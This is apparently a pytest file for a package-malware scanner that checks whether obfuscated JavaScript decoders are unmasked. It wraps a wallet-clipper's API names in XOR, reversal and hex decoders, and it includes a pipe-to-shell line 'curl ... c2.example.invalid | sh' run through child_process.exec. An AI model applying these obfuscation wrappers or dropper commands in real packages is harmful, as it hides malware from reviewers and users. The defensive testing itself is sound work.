"""User-written decoders: the bounded evaluator (analysis/evaluate.py) and what it feeds.

Positives: the qix/chalk browser clipper with its API names hidden behind a decoder of its own
(reversed strings, XOR with a key, a char-code shift through ``map``, char-code arrays, a hex
string XORed with a key string), written here, judged alone as a new package would be
(``scan --against none``). Negatives: decoders of the kind real libraries ship (a base64/UTF-8
helper, rot13 in a test utility, a minifier's string table) that must not be reported.
Everything is inert and only read.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from bench.corpus.replica import SPECS, appended_code, load

from chainwatch.analysis.engine import Engine
from chainwatch.analysis.normalize import normalize
from chainwatch.analysis.rules import load_rules
from chainwatch.model import Level, PackageFile, PackageRef, Verdict
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import BENIGN_INDEX

SCANNER = Scanner(None, workers=1)
ENGINE = Engine(load_rules())
#: the names the clipper uses, each hidden by the variant's decoder
NAMES = ("fetch", "XMLHttpRequest", "ethereum", "request", "eth_sendTransaction", "open")


def _clipper(hide: Callable[[str], str]) -> str:
    """The qix clipper with every API name reached through ``hide(name)``'s expression."""
    code = appended_code(load(SPECS / "qix.yml"))
    code = code.replace("window.fetch", f"window[{hide('fetch')}]")
    code = code.replace("XMLHttpRequest.prototype.open",
                        f"window[{hide('XMLHttpRequest')}].prototype[{hide('open')}]")
    code = code.replace("window.ethereum.request",
                        f"window[{hide('ethereum')}][{hide('request')}]")
    code = code.replace("window.ethereum", f"window[{hide('ethereum')}]")
    code = code.replace("'eth_sendTransaction'", hide("eth_sendTransaction"))
    assert not any(f".{n}" in code for n in ("fetch", "ethereum", "request")), code[:400]
    return code


def _xor(text: str, key: int) -> str:
    return "".join(chr(ord(c) ^ key) for c in text)


def _js(text: str) -> str:
    return json.dumps(text)


#: variant → (the decoder's source, how a name is written as a call of it)
DECODERS: dict[str, tuple[str, Callable[[str], str]]] = {
    "reversed": ("function r(s) { return s.split('').reverse().join(''); }\n",
                 lambda n: f"r({_js(n[::-1])})"),
    "xor-key": ("function x(s, k) { var o = ''; for (var i = 0; i < s.length; i++) "
                "{ o += String.fromCharCode(s.charCodeAt(i) ^ k); } return o; }\n",
                lambda n: f"x({_js(_xor(n, 23))}, 23)"),
    "shift-map": ("const u = s => s.split('').map(c => String.fromCharCode(c.charCodeAt(0) - 3))"
                  ".join('');\n",
                  lambda n: f"u({_js(''.join(chr(ord(c) + 3) for c in n))})"),
    "code-array": ("function n(a) { return a.map(function (c) { return String.fromCharCode(c + 1); })"
                   ".join(''); }\n",
                   lambda n: "n([" + ", ".join(str(ord(c) - 1) for c in n) + "])"),
    "hex-key-string": (
        "var KEY = 'qx';\nfunction k(h) { var o = ''; for (var i = 0; i < h.length; i += 2) "
        "{ o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ "
        "KEY.charCodeAt((i / 2) % KEY.length)); } return o; }\n",
        lambda n: "k('" + "".join(f"{ord(c) ^ ord('qx'[i % 2]):02x}" for i, c in
                                 enumerate(n)) + "')"),
}


def _standalone(code: str) -> Verdict:
    files = {"package.json": json.dumps({"name": "tinted-widgets", "version": "1.0.1",
                                         "main": "index.js"}).encode(),
             "index.js": (BENIGN_INDEX + "\n" + code).encode()}
    return SCANNER.analyze(Loaded(PackageRef("tinted-widgets", "1.0.1"),
                                  scan_snippet_files(files)), None)


@pytest.mark.parametrize("variant", sorted(DECODERS))
def test_decoder_hides_nothing_from_the_view(variant: str) -> None:
    decoder, hide = DECODERS[variant]
    view = normalize((decoder + _clipper(hide)).encode()).text.decode()
    assert "window.fetch" in view and "window.ethereum.request" in view, view[-800:]
    assert '"eth_sendTransaction"' in view


@pytest.mark.parametrize("variant", sorted(DECODERS))
def test_clipper_behind_a_decoder_is_malicious_standalone(variant: str) -> None:
    decoder, hide = DECODERS[variant]
    verdict = _standalone(decoder + _clipper(hide))
    rules = {f.rule for f in verdict.findings}
    assert verdict.level is Level.MALICIOUS, (verdict.explanation, sorted(rules))
    assert "CW-OBF-DECODER-SINK" in rules, sorted(rules)


def test_decoded_module_and_command_reach_the_rules() -> None:
    src = ("function d(s) { return s.split('').reverse().join(''); }\n"
           "const cp = require(d('ssecorp_dlihc'));\n"
           f"cp[d('cexe')](d({_js('curl -sL https://c2.example.invalid | sh'[::-1])}));\n")
    view = normalize(src.encode()).text.decode()
    assert 'require("child_process")' in view
    assert 'child_process.exec("curl -sL https://c2.example.invalid | sh")' in view
    rules = {f.rule for f in ENGINE.scan_file(PackageFile("index.js", src.encode()))}
    assert {"CW-OBF-DECODER-SINK", "CW-DROPPER-PIPE-SHELL"} <= rules, sorted(rules)


def test_decoded_code_run_by_eval_is_decoded_code() -> None:
    payload = "require('child_process').exec('id')"
    src = ("function x(s, k) { let o = ''; for (const c of s) o += String.fromCharCode("
           "c.charCodeAt(0) ^ k); return o; }\n"
           f"eval(x({_js(_xor(payload, 5))}, 5));\n")
    rules = {f.rule for f in ENGINE.scan_file(PackageFile("index.js", src.encode()))}
    assert {"CW-OBF-DECODER-SINK", "CW-EVAL-DECODED-CODE"} <= rules, sorted(rules)


# -- benign look-alikes (after real libraries) ---------------------------------------------------
BENIGN: dict[str, str] = {
    # a base64/UTF-8 helper of the kind js-base64 and many SDKs ship: decodes data it is handed
    "base64-utf8-helper": """\
var b64chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
function fromUtf8(s) { var out = []; for (var i = 0; i < s.length; i++) {
  var c = s.charCodeAt(i); if (c < 128) out.push(c); else out.push(192 | (c >> 6), 128 | (c & 63)); }
  return out; }
function encode(s) { var b = fromUtf8(s), o = '';
  for (var i = 0; i < b.length; i += 3) {
    var n = (b[i] << 16) | ((b[i + 1] || 0) << 8) | (b[i + 2] || 0);
    o += b64chars.charAt(n >> 18 & 63) + b64chars.charAt(n >> 12 & 63) +
      (i + 1 < b.length ? b64chars.charAt(n >> 6 & 63) : '=') +
      (i + 2 < b.length ? b64chars.charAt(n & 63) : '='); }
  return o; }
module.exports = { encode: encode, header: 'Basic ' + encode('user:pass') };
""",
    # rot13 in a test utility, as in many test suites
    "rot13-test-util": """\
function rot13(s) { return s.replace ? s.split('').map(function (c) {
  var code = c.charCodeAt(0);
  if (code >= 97 && code <= 122) return String.fromCharCode((code - 97 + 13) % 26 + 97);
  if (code >= 65 && code <= 90) return String.fromCharCode((code - 65 + 13) % 26 + 65);
  return c; }).join('') : s; }
describe('rot13', function () { it('round-trips', function () {
  expect(rot13(rot13('Hello'))).toBe('Hello'); console.log(rot13('uryyb jbeyq')); }); });
""",
    # a minifier's string table with a lookup function (terser/closure style)
    "minifier-string-table": """\
var _s = ['addEventListener', 'document', 'querySelector', 'click', 'fetch', '/api/items'];
function _g(i) { return _s[i - 0]; }
window[_g(1)][_g(2)]('#list')[_g(0)](_g(3), function () { window[_g(4)](_g(5)); });
""",
    # a hex-to-text helper of a binary protocol library, used on data
    "hex-decoder-on-data": """\
function hexToText(h) { var o = '';
  for (var i = 0; i < h.length; i += 2) o += String.fromCharCode(parseInt(h.substr(i, 2), 16));
  return o; }
exports.banner = hexToText('48656c6c6f');
exports.parse = function (buf) { return hexToText(buf.toString('hex')); };
""",
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_decoders_are_not_reported(name: str) -> None:
    src = BENIGN[name]
    rules = {f.rule for f in ENGINE.scan_file(PackageFile("lib/util.js", src.encode()))}
    assert "CW-OBF-DECODER-SINK" not in rules, sorted(rules)
    assert _standalone(src).level is Level.BENIGN


# -- the evaluator itself: JavaScript semantics of the whitelist, and its bounds ------------------
def _run(src: str, call: str) -> object:
    """The value of ``call`` with the functions of ``src`` in scope, as the normaliser would
    write it (the call itself when it does not fold). ``String.fromCharCode`` is there so the
    file is one the normaliser reads."""
    view = normalize(f"{src}\nString.fromCharCode;\nvar __r = [{call}];\n".encode()).text.decode()
    return view.rsplit("var __r = [", 1)[1].split("];", 1)[0]


@pytest.mark.parametrize(("src", "call", "expected"), [
    ("function a(s) { return s.split('').reverse().join(''); }", "a('cba')", '"abc"'),
    ("function a(n) { return (n >>> 0).toString(16) + (-7 >> 1) + (5 ^ 3) + (1 << 4); }",
     "a(-1)", '"ffffffff-4616"'),
    ("function a(s) { var t = ''; var i = 0; while (i < s.length) { if (s[i] === 'x') "
     "{ i++; continue; } t += s.charAt(i); i += 1; } return t; }", "a('axbxc')", '"abc"'),
    ("const a = (s, n = 1) => s", "a('q')", "a('q')"),          # default parameter: not folded
    ("function a(s) { return s + this.x; }", "a('q')", "a('q')"),  # this: not folded
    ("function a(s) { return s.replace(/a/g, 'b'); }", "a('aa')", "a('aa')"),  # regex: not folded
    ("function a(s) { return process.env.HOME + s; }", "a('q')", "a('q')"),  # host: not folded
])
def test_evaluator_semantics_and_whitelist(src: str, call: str, expected: str) -> None:
    assert _run(src, call) == expected


#: decoders the evaluator cannot finish: an object literal, a regular expression, a loop longer
#: than one evaluation's budget, a string doubled past the string bound
_UNFINISHED = {
    "object": "function d(s){var o={k:1};return s.split('').reverse().join('')}",
    "regex": "function d(s){return s.split('').reverse().join('').replace(/#/g,'')}",
    "long-loop": "function d(s){for(var i=0;i<60000;i++){} return s.split('').reverse().join('')}",
    "doubling": "function d(s){var t=s;for(var i=0;i<17;i++){t=t+t;}"
                "return s.split('').reverse().join('')}",
}
_SINKS = {
    "require": "require(d('ssecorp_dlihc')).exec('id');",
    "window-key": "var w = globalThis[d('wodniw')]; w.x = 1;",
    "via-const": "const m = d('ssecorp_dlihc');\nrequire(m).exec('id');",
    "eval": "eval(d(')1(gol.elosnoc'));",
}


def _decoder_sinks(src: str) -> list[str]:
    return [f.message for f in ENGINE.scan_file(PackageFile("index.js", src.encode()))
            if f.rule == "CW-OBF-DECODER-SINK"]


@pytest.mark.parametrize("sink", sorted(_SINKS))
@pytest.mark.parametrize("decoder", sorted(_UNFINISHED))
def test_undecoded_decoder_reaching_a_sink_is_still_reported(decoder: str, sink: str) -> None:
    src = _UNFINISHED[decoder] + "\n" + _SINKS[sink] + "\n"
    found = _decoder_sinks(src)
    assert found and all("not decoded" in m for m in found), found
    limits = normalize(src.encode()).limits
    assert any(x.startswith("decoder d() not evaluated") for x in limits), limits


def test_decoded_sink_is_reported_as_decoded() -> None:
    src = "function d(s){return s.split('').reverse().join('')}\nrequire(d('ssecorp_dlihc'));\n"
    found = _decoder_sinks(src)
    assert found and "child_process" in found[0] and "not decoded" not in found[0]


@pytest.mark.parametrize("src", [
    # i18n: a lookup, no transform
    "var m = {hi: 'Hello'}; function t(k){ return m[k] || k; }\nwindow[t('hi')] = 1;",
    # a minifier's string table indexed by numbers
    "var _s = ['fetch', 'x']; function _g(i){ return _s[i].slice(0); }\nwindow[_g(0)]('/a');",
    # require of path.join and of a path tidied by a helper
    "var path = require('path');\nmodule.exports = require(path.join(__dirname, 'lib'));",
    "function fix(p){ return p.replace(/\\\\/g, '/'); }\nmodule.exports = require(fix('./lib/a'));",
    # a base64 helper whose output is data
    "function b64(s){ return Buffer.from(s, 'base64').toString('utf8').replace(/x/g, ''); }\n"
    "console.log(b64('aGVsbG8='));",
])
def test_undecoded_look_alikes_are_quiet(src: str) -> None:
    assert _decoder_sinks(src) == []
